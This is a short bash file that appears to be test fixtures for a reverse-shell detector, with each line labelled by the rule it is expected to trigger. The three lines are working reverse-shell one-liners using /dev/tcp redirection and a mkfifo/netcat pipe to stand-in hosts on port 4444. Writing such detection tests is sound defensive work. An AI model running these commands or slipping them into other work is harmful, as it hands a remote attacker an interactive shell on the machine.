#!/bin/bash
# expect: reverse-shell-redirect
bash -i >& /dev/tcp/192.0.2.9/4444 0>&1
# expect: reverse-shell-redirect
exec 5<>/dev/tcp/c2.example/4444
# expect: reverse-shell-redirect, reverse-shell-netcat
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc c2.example 4444 > /tmp/f
